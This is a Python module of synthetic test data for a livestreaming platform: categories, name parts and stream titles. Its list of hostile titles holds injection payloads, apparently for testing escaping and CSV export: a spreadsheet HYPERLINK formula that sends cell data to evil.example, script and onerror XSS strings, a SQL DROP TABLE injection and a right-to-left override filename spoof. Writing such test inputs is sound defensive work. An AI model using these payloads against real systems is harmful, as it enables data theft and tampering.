"""Categories, names and titles of the synthetic world."""

from __future__ import annotations

from typing import NamedTuple


class CategoryRow(NamedTuple):
    """One category and how often channels choose it."""

    category_id: int
    name: str
    display_name: str
    weight: int


# Ids and names are those of the specification, also the nameless ones; the rest is made up.
CATEGORIES = (
    CategoryRow(7, "Gaming", "Gaming", 300),
    CategoryRow(23, "Crypto", "CRYPTO", 140),
    CategoryRow(10, "Music", "Music", 80),
    CategoryRow(21, "IRL", "IRL", 180),
    CategoryRow(22, "Other", "Other", 120),
    CategoryRow(9, "Just Chatting", "Just chatting", 70),
    CategoryRow(8, "Sports", "Sports", 40),
    CategoryRow(24, "Politics", "Politics", 40),
    CategoryRow(25, "News", "News", 20),
    CategoryRow(26, "Podcasts", "Podcasts", 20),
    CategoryRow(17, "Technology", "Technology", 15),
    CategoryRow(11, "Education", "Education", 12),
    CategoryRow(12, "Art", "Art", 12),
    CategoryRow(18, "Fitness", "Fitness", 10),
    CategoryRow(19, "Travel", "Travel", 10),
    CategoryRow(20, "Food & Drink", "Food & Drink", 8),
    CategoryRow(3, "", "Call of Duty", 12),
    CategoryRow(16, "", "Valorant", 10),
    CategoryRow(13, "", "Axie Infinity", 5),
    CategoryRow(15, "", "Farlight 84", 5),
    CategoryRow(14, "", "Wreck League", 4),
)
# `Event.category_id` of a livestream without a category.
NO_CATEGORY = 0

FIRST_WORDS = (
    "Silent", "Crypto", "Lunar", "Neon", "Grandpa", "Captain", "Pixel", "Cozy", "Rusty", "Atomic", "Velvet", "Lucky",
    "Mellow", "Turbo", "Iron", "Salty", "Sunny", "Frosty", "Wild", "Broke", "Golden", "Tiny", "Loud", "Midnight",
)  # fmt: skip
SECOND_WORDS = (
    "Fox", "Gamer", "Cabbage", "Raven", "Trader", "Panda", "Wizard", "Otter", "Biker", "Nomad", "Chef", "Drummer",
    "Falcon", "Pirate", "Llama", "Hodler", "Goblin", "Poet", "Mechanic", "Runner", "Walrus", "Prophet", "Cactus",
    "Duck",
)  # fmt: skip
ODD_NAMES = (
    "🦊 {} Live", "{} TV", "the real {}", "{} ✨", "{}\u00a0official", "Ünïcödé {}", "{} 直播", "{} عربي",
    'The "{}" Show', "{}, etc.",
)  # fmt: skip

DEFAULT_TITLE = "I'm Live on Parti"
PLAIN_TITLES = (
    "Games & music", "Friday Stream!", "SOMEPLACE NEAR HELL", "Late night chat", "Road trip day {}",
    "Ranked grind #{}", "BTC to the moon? Part {}", "Morning coffee with chat", "Episode {}", "Cooking for {} people",
    "Speedrun attempt {}", "Market open", "24h challenge, hour {}", "Guitar practice {}", "Walking downtown",
    "Subathon day {}",
)  # fmt: skip
HOSTILE_TITLES = (
    'He said "no way"',
    '"',
    "it's \"both\" 'kinds'",
    "one, two, three",
    "line one\nline two",
    "windows\r\nline\r\n",
    "a\ttab",
    "🔥🔥 LIVE 🔥🔥",
    "👩‍👩‍👧‍👦 family day 🇺🇸",
    "مرحبا بكم في البث",
    "שלום לכולם 123",
    "\u202egnp.exe",
    "今日は配信します",
    "실시간 방송 중",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "=1+1;2",
    "\t=1+1",
    "＝1+1",
    "<script>alert('parti')</script>",
    "<b>bold</b> &amp; <img src=x onerror=alert(1)>",
    "a;b;c",
    "C:\\new\\table",
    "\\",
    "\\N",
    "%s %d {} {0} ${HOME}",
    "'; DROP TABLE livestreams; --",
    "",
    " ",
    "  both sides  ",
    "NaN",
    "null",
    "0123",
    "1e5",
    "\ufeffbyte order mark",
    "zero\u200bwidth",
    "line\u2028separator",
    "e\u0301 combining",
    "\x1b[31mred\x1b[0m",
    "\x7f",
    '{"a": 1}',
    "very long " * 200,
    "ß" * 1000,
)
